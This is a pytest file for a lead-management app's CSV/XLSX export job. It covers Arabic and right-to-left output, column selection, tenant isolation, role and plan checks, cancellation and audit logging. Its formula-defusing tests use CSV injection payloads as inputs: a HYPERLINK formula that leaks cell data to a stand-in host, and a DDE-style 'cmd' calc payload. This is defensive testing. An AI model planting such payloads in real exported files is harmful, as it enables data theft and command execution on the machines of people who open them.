"""The EXPORT job: CSV and XLSX files read back, formulas defused, the selection (filter, list,
ids, another tenant, SALES visibility), columns, cancel, restart, an empty export, audit."""

from __future__ import annotations

import json
import re
import uuid
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

import asyncpg
import httpx
import pytest
from fastapi import FastAPI

from leedz.access.roles import Role
from leedz.errors import LeedzError
from leedz.exports import job
from leedz.exports.cells import FORMULA_TRIGGERS
from leedz.exports.columns import field_of_header
from leedz.jobs.work import Cancelled
from tests.exports.support import csv_of, export_files, records, run, xlsx_of
from tests.exports.support import unit as make_unit
from tests.factories.accounts import Account, member, on_plan, signup
from tests.factories.leads import create_lead
from tests.lists.support import add, new_list

NUMBER_OR_PHONE = re.compile(r"[+-]?[0-9 ().;+-]*[0-9][0-9 ().;+-]*")
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
async def boss(client: httpx.AsyncClient, owner: asyncpg.Connection) -> Account:
    account = await signup(client, tenant_name="شركة التصدير")
    await on_plan(owner, account, "PRO")
    return account


async def english(client: httpx.AsyncClient, account: Account) -> None:
    response = await client.patch(
        "/v1/tenants/current", json={"settings": {"language": "en"}}, headers=account.headers
    )
    assert response.status_code == 200, response.text


async def arabic_lead(client: httpx.AsyncClient, account: Account, **fields: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "name": "مطعم الأمل للتجارة",
        "contactName": "محمد العتيبي",
        "category": "مطاعم",
        "phones": ["+966501234567", "055 123 4567"],
        "emails": ["info@alamal.example", "sales@alamal.example"],
        "website": "https://alamal.example",
        "address": "شارع الملك فهد، العليا",
        "city": "الرياض",
        "country": "SA",
        "location": {"lat": 24.71, "lng": 46.68},
        "rating": 4.5,
        "reviewsCount": 120,
        "externalIds": {"googleMaps": "ChIJ123"},
        "socialProfiles": {"instagram": "@alamal"},
        "tags": ["عميل مميز", "vip"],
        "customFields": {"industry": "أغذية", "branches": 3, "score": "-12.5"},
        **fields,
    }
    return await create_lead(client, account, **body)


def assert_no_formula_cell(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell and cell[0] in FORMULA_TRIGGERS:
                assert NUMBER_OR_PHONE.fullmatch(cell), cell


class TestCsv:
    async def test_read_back_with_bom_arabic_phones_and_every_field(
        self, client: httpx.AsyncClient, app: FastAPI, boss: Account
    ) -> None:
        lead = await arabic_lead(client, boss)
        output = await run(app, boss, {"format": "CSV"})
        assert not isinstance(output, Cancelled)
        assert output["rows"] == 1
        header, *rows = await csv_of(app, boss, output)
        assert header[:4] == ["المعرّف", "الاسم", "اسم جهة الاتصال", "التصنيف"]
        (row,) = records(header, rows)
        by_key = {field_of_header(h): v for h, v in row.items()}
        assert None not in by_key, header  # every header maps back to its field
        assert by_key["id"] == lead["id"]
        assert by_key["name"] == "مطعم الأمل للتجارة"
        assert by_key["phones"] == "+966501234567; +966551234567"
        assert by_key["emails"] == "info@alamal.example; sales@alamal.example"
        assert by_key["tags"] == "عميل مميز; vip"
        assert by_key["city"] == "الرياض"
        assert by_key["lat"] == "24.71"
        assert by_key["lng"] == "46.68"
        assert by_key["rating"] == "4.5"
        assert by_key["reviewsCount"] == "120"
        assert by_key["doNotContact"] == "false"
        assert by_key["status"] == "NEW"
        assert by_key["externalIds.googleMaps"] == "ChIJ123"
        # A handle starts with @, which Excel reads as a formula: defused like any other.
        assert by_key["socialProfiles.instagram"] == "'@alamal"
        assert by_key["customFields.industry"] == "أغذية"
        assert by_key["customFields.branches"] == "3"
        assert by_key["customFields.score"] == "-12.5"
        # In the tenant's time zone (Asia/Riyadh, UTC+3), to the second.
        created = datetime.fromisoformat(lead["createdAt"])
        local = created.astimezone(ZoneInfo("Asia/Riyadh"))
        assert by_key["createdAt"] == local.strftime("%Y-%m-%d %H:%M:%S")

    async def test_formulas_are_defused_numbers_and_phones_are_not(
        self, client: httpx.AsyncClient, app: FastAPI, boss: Account
    ) -> None:
        await create_lead(
            client,
            boss,
            name=HOSTILE,
            contactName="+cmd|' /C calc'!A0",
            category="@SUM(A1:A9)",
            address="-2+3",
            city="\t=1+1",
            phones=["+1 (650) 253-0000"],
            tags=["=evil", "ok"],
            customFields={"note": "=1+1", "delta": "-12.5", "cr": "\r=1+1", "tab": "\t=1+1"},
        )
        output = await run(app, boss, {"format": "CSV"})
        assert not isinstance(output, Cancelled)
        header, *rows = await csv_of(app, boss, output)
        assert_no_formula_cell([header, *rows])
        (row,) = records(header, rows)
        by_key = {field_of_header(h): v for h, v in row.items()}
        assert by_key["name"] == "'" + HOSTILE
        assert by_key["contactName"] == "'+cmd|' /C calc'!A0"
        assert by_key["category"] == "'@SUM(A1:A9)"
        assert by_key["address"] == "'-2+3"
        assert by_key["city"] == "'=1+1"  # the city is stored trimmed
        assert by_key["phones"] == "+16502530000"
        assert by_key["tags"] == "'=evil; ok"
        assert by_key["customFields.note"] == "'=1+1"
        assert by_key["customFields.delta"] == "-12.5"
        assert by_key["customFields.cr"] == "'\r=1+1"
        assert by_key["customFields.tab"] == "'\t=1+1"

    async def test_an_empty_selection_is_a_header_only_file(
        self, client: httpx.AsyncClient, app: FastAPI, boss: Account
    ) -> None:
        await english(client, boss)
        output = await run(app, boss, {"format": "CSV", "filter": {"status": ["WON"]}})
        assert not isinstance(output, Cancelled)
        assert output["rows"] == 0
        rows = await csv_of(app, boss, output)
        assert len(rows) == 1
        assert rows[0][:3] == ["ID", "Name", "Contact name"]


class TestXlsx:
    async def test_read_back_with_openpyxl_rtl_strings_numbers_no_formula(
        self, client: httpx.AsyncClient, app: FastAPI, boss: Account
    ) -> None:
        await arabic_lead(client, boss)
        await create_lead(client, boss, name=HOSTILE, phones=["+966551112222"])
        output = await run(app, boss, {"format": "XLSX"})
        assert not isinstance(output, Cancelled)
        assert output["rows"] == 2
        sheet = await xlsx_of(app, boss, output)
        assert sheet.sheet_view.rightToLeft is True
        cells = [list(row) for row in sheet.iter_rows()]
        assert all(cell.data_type != "f" for row in cells for cell in row)
        header = [c.value for c in cells[0]]
        keys = [field_of_header(h) for h in header]
        assert None not in keys, header
        rows = [dict(zip(keys, (c for c in row), strict=True)) for row in cells[1:]]
        hostile = next(r for r in rows if r["name"].value != "مطعم الأمل للتجارة")
        assert hostile["name"].value == "'" + HOSTILE
        assert hostile["phones"].value == "+966551112222"
        assert hostile["phones"].data_type == "s"
        arabic = next(r for r in rows if r["name"].value == "مطعم الأمل للتجارة")
        assert arabic["phones"].value == "+966501234567; +966551234567"
        assert arabic["lat"].value == 24.71
        assert arabic["reviewsCount"].value == 120
        assert arabic["doNotContact"].value is False
        assert isinstance(arabic["createdAt"].value, datetime)
        assert arabic["customFields.industry"].value == "أغذية"
        assert arabic["customFields.score"].value == "-12.5"
        assert arabic["customFields.score"].data_type == "s"

    async def test_an_english_tenant_reads_left_to_right_with_english_headers(
        self, client: httpx.AsyncClient, app: FastAPI, boss: Account
    ) -> None:
        await english(client, boss)
        output = await run(app, boss, {"format": "XLSX", "columns": ["name", "phones"]})
        assert not isinstance(output, Cancelled)
        sheet = await xlsx_of(app, boss, output)
        assert not sheet.sheet_view.rightToLeft
        assert [c.value for c in next(sheet.iter_rows())] == ["Name", "Phones"]
        assert sheet.max_row == 1

    async def test_more_leads_than_a_sheet_holds_fail_clearly(
        self,
        client: httpx.AsyncClient,
        app: FastAPI,
        boss: Account,
        owner: asyncpg.Connection,
        monkeypatch: pytest.MonkeyPatch,
    ) -> None:
        for n in range(3):
            await create_lead(client, boss, name=f"Lead {n}")
        monkeypatch.setattr(job, "XLSX_MAX_ROWS", 3)
        with pytest.raises(LeedzError) as raised:
            await run(app, boss, {"format": "XLSX"})
        assert raised.value.code == "export_too_large"
        assert await export_files(owner, boss) == []


class TestColumns:
    async def test_the_columns_chosen_in_their_order(
        self, client: httpx.AsyncClient, app: FastAPI, boss: Account
    ) -> None:
        await arabic_lead(client, boss)
        output = await run(
            app,
            boss,
            {"columns": ["phones", "name", "customFields.industry", "location", "name"]},
        )
        assert not isinstance(output, Cancelled)
        header, row = await csv_of(app, boss, output)
        assert [field_of_header(h) for h in header] == [
            "phones", "name", "customFields.industry", "lat", "lng",
        ]  # fmt: skip
        assert row == [
            "+966501234567; +966551234567", "مطعم الأمل للتجارة", "أغذية", "24.71", "46.68",
        ]  # fmt: skip

    @pytest.mark.parametrize(
        "columns", [["name", "password"], ["customFields.bad key"], ["search_text"], ["tenantId"]]
    )
    async def test_an_unknown_column_fails_the_job_with_its_code(
        self,
        app: FastAPI,
        boss: Account,
        owner: asyncpg.Connection,
        columns: list[str],
    ) -> None:
        with pytest.raises(LeedzError) as raised:
            await run(app, boss, {"columns": columns})
        assert raised.value.code == "export_column_unknown"
        assert raised.value.extra["columns"] == [c for c in columns if c != "name"]
        assert await export_files(owner, boss) == []


class TestSelection:
    async def test_filter_list_and_ids(
        self, client: httpx.AsyncClient, app: FastAPI, boss: Account
    ) -> None:
        a = await create_lead(client, boss, name="A", status="WON")
        b = await create_lead(client, boss, name="B")
        c = await create_lead(client, boss, name="C", status="WON")
        listed = await new_list(client, boss)
        assert (await add(client, boss, listed["id"], [a["id"], b["id"]])).status_code == 200

        async def names(selection: dict[str, Any]) -> list[str]:
            output = await run(app, boss, {"columns": ["name"], **selection})
            assert not isinstance(output, Cancelled)
            _, *rows = await csv_of(app, boss, output)
            assert output["rows"] == len(rows)
            return [r[0] for r in rows]

        assert await names({}) == ["C", "B", "A"]  # newest first, as GET /v1/leads
        assert await names({"filter": {"status": ["WON"], "sort": "name"}}) == ["A", "C"]
        assert await names({"listId": listed["id"]}) == ["B", "A"]
        assert await names({"leadIds": [a["id"], c["id"]]}) == ["C", "A"]
        assert await names({"listId": listed["id"], "filter": {"status": ["WON"]}}) == ["A"]
        with pytest.raises(LeedzError) as raised:
            await names({"listId": str(uuid.uuid4())})
        assert raised.value.code == "not_found"

    async def test_another_tenants_leads_are_never_exported(
        self, client: httpx.AsyncClient, app: FastAPI, boss: Account, owner: asyncpg.Connection
    ) -> None:
        stranger = await signup(client)
        await on_plan(owner, stranger, "PRO")
        theirs = await create_lead(client, stranger, name="Theirs")
        mine = await create_lead(client, boss, name="Mine")
        their_list = await new_list(client, stranger)
        await add(client, stranger, their_list["id"], [theirs["id"]])
        output = await run(app, boss, {"columns": ["name"], "leadIds": [theirs["id"], mine["id"]]})
        assert not isinstance(output, Cancelled)
        assert await csv_of(app, boss, output) == [["الاسم"], ["Mine"]]
        with pytest.raises(LeedzError) as raised:
            await run(app, boss, {"listId": their_list["id"]})
        assert raised.value.code == "not_found"
        everything = await run(app, boss, {"columns": ["name"]})
        assert not isinstance(everything, Cancelled)
        assert await csv_of(app, boss, everything) == [["الاسم"], ["Mine"]]

    async def test_a_creator_who_may_no_longer_export_exports_nothing(
        self, client: httpx.AsyncClient, app: FastAPI, boss: Account, owner: asyncpg.Connection
    ) -> None:
        """The role and the plan are read when the job runs: a MANAGER demoted to SALES since
        creating the export, or a tenant moved to a plan without bulk_export, gets no file."""
        await create_lead(client, boss, name="Secret")
        sales = await member(client, boss, "SALES")
        with pytest.raises(LeedzError) as raised:
            await run(app, sales, {"columns": ["name"]}, role=Role.SALES)
        assert (raised.value.code, raised.value.status) == ("forbidden", 403)
        manager = await member(client, boss, "MANAGER")
        output = await run(app, manager, {"columns": ["name"]}, role=Role.MANAGER)
        assert not isinstance(output, Cancelled)
        assert await csv_of(app, manager, output) == [["الاسم"], ["Secret"]]
        await on_plan(owner, boss, "FREE")
        with pytest.raises(LeedzError) as raised:
            await run(app, manager, {"columns": ["name"]}, role=Role.MANAGER)
        assert raised.value.code == "feature_not_in_plan"
        exported = await owner.fetchval(
            "SELECT count(*) FROM files WHERE tenant_id = $1 AND purpose = 'EXPORT'",
            boss.tenant_id,
        )
        assert exported == 1


class TestRunning:
    async def test_progress_then_one_audit_row_with_the_count(
        self, client: httpx.AsyncClient, app: FastAPI, boss: Account, owner: asyncpg.Connection
    ) -> None:
        for n in range(5):
            await create_lead(client, boss, name=f"Lead {n}")
        export = make_unit(app, boss, {"format": "CSV", "columns": ["name"]})
        output = await job.export(export, fetch_rows=2, progress_rows=2)
        assert not isinstance(output, Cancelled)
        assert output["rows"] == 5
        assert export.progress == [40, 80, 100]
        assert export.checkpoint == {"rows": 5, "fileId": output["fileId"]}
        (stored,) = await export_files(owner, boss)
        assert str(stored["id"]) == output["fileId"]
        assert stored["format"] == "CSV"
        assert stored["content_type"].startswith("text/csv")
        assert str(stored["created_by_id"]) == boss.user_id
        assert stored["lifetime"].days == 7
        assert re.fullmatch(r"leads-\d{8}-\d{6}\.csv", stored["name"])
        audit = await owner.fetch(
            "SELECT user_id, entity_type, entity_id, details FROM audit_logs"
            " WHERE tenant_id = $1::uuid AND event_type = 'leads.exported'",
            boss.tenant_id,
        )
        assert len(audit) == 1
        assert str(audit[0]["user_id"]) == boss.user_id
        assert audit[0]["entity_id"] == str(export.job.id)
        details = audit[0]["details"]
        details = details if isinstance(details, dict) else json.loads(details)
        assert details == {
            "rows": 5, "format": "CSV", "fileId": output["fileId"], "columns": ["name"],
        }  # fmt: skip

    async def test_cancel_between_batches_keeps_no_file(
        self, client: httpx.AsyncClient, app: FastAPI, boss: Account, owner: asyncpg.Connection
    ) -> None:
        for n in range(7):
            await create_lead(client, boss, name=f"Lead {n}")
        output = await run(app, boss, {"format": "XLSX"}, cancel_after=1)
        assert output == Cancelled({"rows": 2, "fileId": None})
        assert await export_files(owner, boss) == []
        assert not await owner.fetchval(
            "SELECT count(*) FROM audit_logs WHERE tenant_id = $1::uuid"
            " AND event_type = 'leads.exported'",
            boss.tenant_id,
        )

    async def test_a_restart_starts_over_unless_the_file_was_kept(
        self, client: httpx.AsyncClient, app: FastAPI, boss: Account, owner: asyncpg.Connection
    ) -> None:
        for n in range(3):
            await create_lead(client, boss, name=f"Lead {n}")
        again = await run(app, boss, {"columns": ["name"]}, checkpoint={"rows": 2})
        assert not isinstance(again, Cancelled)
        assert again["rows"] == 3
        assert len(await csv_of(app, boss, again)) == 4
        done = {"rows": 3, "fileId": again["fileId"]}
        assert await run(app, boss, {"columns": ["name"]}, checkpoint=done) == done
        assert len(await export_files(owner, boss)) == 1
